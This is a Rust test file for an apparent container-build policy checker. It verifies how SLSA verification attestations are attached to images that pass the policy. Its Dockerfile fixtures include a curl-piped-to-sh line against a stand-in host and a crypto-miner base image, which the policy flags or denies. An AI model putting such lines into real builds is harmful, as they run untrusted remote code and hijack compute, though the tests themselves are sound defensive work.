//! The verdict that travels with an image that passed.

use crate::frontend::protocol::{BuildResult, Op, SolveRequest, file_action, op};
use prost::Message as _;
use serde_json::Value;

use super::gateway::{Gateway, Seen, result};
use super::rulebooks::rulebook_of;

const ATTEST: &str = "[frontend]\nattest = true\n";

/// A result for these platforms.
fn built(platforms: &[&str]) -> BuildResult {
    let platforms: Vec<Value> =
        platforms.iter().map(|id| serde_json::json!({ "ID": id })).collect();
    let listed = serde_json::json!({ "Platforms": platforms }).to_string().into_bytes();
    let mut built = result("built");
    built.metadata.insert("refs.platforms".to_owned(), listed);
    built
}

/// A build under a policy, by a gateway that is changed first.
fn build(dockerfile: &str, policy: &str, change: impl FnOnce(&mut Gateway)) -> Seen {
    let mut gateway = Gateway::with(dockerfile);
    gateway.built = Some(built(&["linux/amd64", "linux/arm64"]));
    change(&mut gateway);
    gateway.run_with(&[], Ok(rulebook_of(policy)))
}

/// The only file that a graph writes under this name.
fn written(request: &SolveRequest, name: &str) -> Option<Vec<u8>> {
    let ops = request.definition.iter().flat_map(|definition| &definition.def);
    let mut ops = ops.filter_map(|bytes| Op::decode(bytes.as_slice()).ok());
    ops.find_map(|op| match op.op {
        Some(op::Op::File(file)) => {
            file.actions.into_iter().find_map(|action| match action.action {
                Some(file_action::Action::Mkfile(made)) if made.path == name => Some(made.data),
                _ => None,
            })
        }
        _ => None,
    })
}

#[test]
fn each_platform_of_an_image_that_passed_carries_the_verdict() {
    let seen = build("FROM scratch\nRUN curl https://a.example.invalid | sh\n", ATTEST, |_| {});
    let attached = seen.result().attestations;
    let platforms: Vec<&str> = attached.iter().map(|entry| entry.platform.as_str()).collect();
    assert_eq!(platforms, ["linux/amd64", "linux/arm64"]);
    for entry in &attached {
        let all = &entry.attestations.as_ref().expect("there are some").attestation;
        assert_eq!(all.len(), 1);
        assert_eq!(all[0].path, "/verification.json");
        assert_eq!(all[0].in_toto_predicate_type, "https://slsa.dev/verification_summary/v1");
        assert_eq!(all[0].in_toto_subjects.len(), 1, "the image itself");
    }
    let file = seen.files.iter().find_map(|request| written(request, "/verification.json"));
    let predicate: Value = serde_json::from_slice(&file.expect("it is written")).expect("JSON");
    assert_eq!(predicate["verificationResult"], "PASSED");
    assert_eq!(predicate["verifier"]["version"]["minestop"], env!("CARGO_PKG_VERSION"));
    assert_eq!(predicate["timeVerified"], "2026-01-01T00:00:00Z");
    assert_eq!(predicate["policy"]["name"], "minestop.toml");
    let digest = predicate["policy"]["digest"]["sha256"].as_str().expect("a digest");
    assert_eq!(format!("sha256:{digest}"), super::gateway::digest(ATTEST.as_bytes()));
    let counts = &predicate["pkg:cargo/minestop#counts"];
    assert_eq!((&counts["stop"], &counts["warn"]), (&Value::from(0), &Value::from(1)));
}

#[test]
fn attestations_of_others_stay() {
    let other = || {
        let mut result = built(&["linux/amd64"]);
        let attestation = crate::frontend::protocol::Attestation {
            path: "/other".to_owned(),
            ..Default::default()
        };
        let attestations =
            Some(crate::frontend::protocol::Attestations { attestation: vec![attestation] });
        result.attestations.push(crate::frontend::protocol::AttestationsEntry {
            platform: "linux/amd64".to_owned(),
            attestations,
        });
        result
    };
    let seen = build("FROM scratch\n", ATTEST, |gateway| gateway.built = Some(other()));
    let attached = seen.result().attestations;
    assert_eq!(attached.len(), 1);
    let all = &attached[0].attestations.as_ref().expect("there are some").attestation;
    let paths: Vec<&str> = all.iter().map(|it| it.path.as_str()).collect();
    assert_eq!(paths, ["/other", "/verification.json"]);
}

#[test]
fn nobody_is_told_anything_without_the_wish_or_after_a_stop() {
    assert!(build("FROM scratch\n", "", |_| {}).result().attestations.is_empty());
    let seen = build("FROM metal3d/xmrig\n", ATTEST, |_| {});
    assert!(seen.error().message.contains("STOP[denied-image]"));
    assert!(seen.files.iter().all(|request| written(request, "/verification.json").is_none()));
}

#[test]
fn a_result_that_cannot_carry_one_is_built_with_one_warning() {
    let seen = build("FROM scratch\n", ATTEST, |gateway| gateway.built = Some(result("built")));
    assert!(seen.result().attestations.is_empty());
    let warnings: Vec<String> =
        seen.warnings.iter().map(|it| String::from_utf8_lossy(&it.short).into_owned()).collect();
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(warnings[0].contains("cannot attach any"), "{warnings:?}");
    let old = build("FROM scratch\n", ATTEST, |gateway| gateway.is_old = true);
    assert!(old.result().attestations.is_empty());
}
